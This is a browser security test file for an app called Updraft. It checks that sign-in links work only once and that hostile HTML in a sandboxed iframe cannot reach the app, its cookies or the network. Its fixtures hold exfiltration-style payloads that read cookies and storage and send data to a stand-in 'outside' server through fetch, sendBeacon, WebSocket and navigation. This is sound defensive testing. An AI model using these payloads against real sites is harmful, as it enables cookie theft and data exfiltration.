// The door in a real browser: signing in leaves a clean address, a spent address says so, and hostile HTML in the output frame reaches nothing:
// not the app, not a cookie, not the network.
import { createServer, type Server } from 'node:http'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { CHROMIUM_FLAGS } from '../worlds/chromium-flags.ts'
import { EngineWorld } from '../worlds/engine.ts'
import { chromium as findBrowser } from '../worlds/python.ts'

let world: EngineWorld
let browser: Browser
let context: BrowserContext
let page: Page
let signIn = ''
/** Stands for the rest of the world; whatever reaches it should not have. */
let outside: Server
const reached: string[] = []
let outsideUrl = ''

beforeAll(async () => {
  world = new EngineWorld()
  signIn = (await world.start()).url
  outside = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('reached')
  })
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
  const address = outside.address()
  outsideUrl = `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`
  const found = findBrowser()
  if (found === undefined) throw new Error('There is no Chromium here; UPDRAFT_CHROMIUM may name one.')
  browser = await chromium.launch({ executablePath: found, args: CHROMIUM_FLAGS })
  context = await browser.newContext()
  page = await context.newPage()
  await page.goto(signIn)
}, 120_000)
afterAll(async () => {
  await browser?.close()
  outside?.close()
  await world.close()
})

test('signing in leaves a clean address, and the address opens nothing a second time', async () => {
  expect(page.url()).toBe(`${new URL(signIn).origin}/`)
  expect(await page.evaluate(() => document.cookie)).toBe('')
  const other = await (await browser.newContext()).newPage()
  await other.goto(signIn)
  expect(await other.textContent('h1')).toBe('This sign-in address was used already')
  await other.goto(new URL(signIn).origin)
  expect(await other.textContent('h1')).toBe('Sign in to Updraft')
  await other.context().close()
})

test('a link of another site to a sign-in address signs in', async () => {
  const fresh = await browser.newContext()
  const other = await fresh.newPage()
  const { url } = await world.link().call('engine.sign-in', {})
  await other.goto(outsideUrl)
  await other.evaluate((to) => {
    location.href = to
  }, url)
  await other.waitForURL(`${new URL(url).origin}/`)
  expect((await fresh.cookies()).map((cookie) => [cookie.name, cookie.httpOnly, cookie.sameSite])).toEqual([
    ['updraft', true, 'Strict'],
  ])
  await fresh.close()
})

test('a page of another site can neither open a wire, nor frame us, nor read a page', async () => {
  const other = await context.newPage()
  await other.goto(outsideUrl)
  const origin = new URL(signIn).origin
  const result = await other.evaluate(async (app) => {
    const wire = await new Promise((resolve) => {
      const ws = new WebSocket(`${app.replace('http', 'ws')}/wire`)
      ws.onopen = () => resolve('open')
      ws.onerror = () => resolve('refused')
    })
    const read = await fetch(app, { credentials: 'include' }).then(
      (r) => r.text(),
      () => 'refused',
    )
    return { wire, read }
  }, origin)
  expect(result).toEqual({ wire: 'refused', read: 'refused' })
  await other.close()
})

/** Shows HTML in the output frame and answers what the frame said until it is quiet. */
function show(html: string, kind: 'frame' | 'inert'): Promise<{ t: string; [key: string]: unknown }[]> {
  return page.evaluate(
    async ([content, name]) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts')
      frame.src = `${location.origin.replace('.localhost', '-out.localhost')}/${name}.html`
      document.body.append(frame)
      await new Promise((resolve) => {
        frame.onload = resolve
      })
      const { port1, port2 } = new MessageChannel()
      const said: { t: string; [key: string]: unknown }[] = []
      let quiet = performance.now()
      port1.onmessage = (event) => {
        said.push(event.data)
        quiet = performance.now()
        if (event.data.t === 'ready') port1.postMessage({ t: 'html', html: content, serial: 1 })
      }
      frame.contentWindow?.postMessage({ t: 'updraft-frame' }, '*', [port2])
      while (!said.some((m) => m.t === 'shown') || performance.now() - quiet < 700)
        await new Promise((resolve) => setTimeout(resolve, 50))
      frame.remove()
      return said
    },
    [html, kind] as const,
  )
}

const hostile = (out: string) => `<p style="height:120px">text</p>
<img src="${out}/img"><link rel="stylesheet" href="${out}/css"><iframe src="${out}/frame"></iframe><form action="${out}/form"><button>x</button></form>
<img src="x" onerror="window.ran='onerror'"><svg onload="window.ran='svg'"></svg><meta http-equiv="refresh" content="0;url=${out}/meta">
<script>
window.ran = 'script'
const results = {}
const attempt = (name, run) => { try { results[name] = String(run()) } catch (error) { results[name] = error.name } }
attempt('parent document', () => parent.document.title)
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('top', () => { top.location = '${out}/top'; return 'set' })
attempt('open', () => window.open('${out}/open'))
attempt('origin', () => self.origin)
fetch('${out}/fetch').catch(() => {})
fetch('/frame.html').catch(() => {})
try { new WebSocket('${out.replace('http', 'ws')}/ws') } catch {}
navigator.sendBeacon && navigator.sendBeacon('${out}/beacon')
new Image().src = '${out}/image'
try { new Worker('${out}/worker') } catch {}
throw new Error(JSON.stringify(results))
</script>`

test('hostile HTML with its scripts runs in a place of its own, from which nothing leaves', async () => {
  const before = reached.length
  const said = await show(hostile(outsideUrl), 'frame')
  const error = String(said.find((m) => m.t === 'error')?.['message'] ?? '').replace(/^Uncaught Error: /, '')
  expect(JSON.parse(error)).toEqual({
    'parent document': 'SecurityError',
    cookie: 'SecurityError',
    storage: 'SecurityError',
    top: 'SecurityError',
    open: 'null',
    origin: 'null',
  })
  expect(said.find((m) => m.t === 'height')?.['px']).toBeGreaterThanOrEqual(120)
  expect(reached.slice(before).filter((path) => path !== '/favicon.ico')).toEqual([])
  expect(page.url()).toBe(`${new URL(signIn).origin}/`)
})

test('the frame can not carry anything out by going elsewhere itself', async () => {
  const before = reached.length
  await show(`<script>setTimeout(() => { location.href = '${outsideUrl}/self?secret' }, 50)</script>`, 'frame')
  expect(reached.slice(before)).toEqual([])
})

test('in the inert frame nothing runs at all', async () => {
  const before = reached.length
  const said = await show(hostile(outsideUrl), 'inert')
  expect(said.filter((m) => m.t === 'error')).toEqual([])
  expect(said.some((m) => m.t === 'blocked' && String(m['what']).startsWith('script-src'))).toBe(true)
  expect(reached.slice(before)).toEqual([])
})

test('a forged first message, and one from another window, are not taken', async () => {
  const said = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', 'allow-scripts')
    frame.src = `${location.origin.replace('.localhost', '-out.localhost')}/frame.html`
    document.body.append(frame)
    await new Promise((resolve) => {
      frame.onload = resolve
    })
    const heard: unknown[] = []
    for (const message of [{ t: 'html', html: 'x' }, { t: 'updraft-frame' }, null, 'updraft-frame'])
      frame.contentWindow?.postMessage(message, '*')
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = (event) => heard.push(event.data)
    frame.contentWindow?.postMessage({ t: 'another' }, '*', [port2])
    await new Promise((resolve) => setTimeout(resolve, 300))
    frame.remove()
    return heard
  })
  expect(said).toEqual([])
})
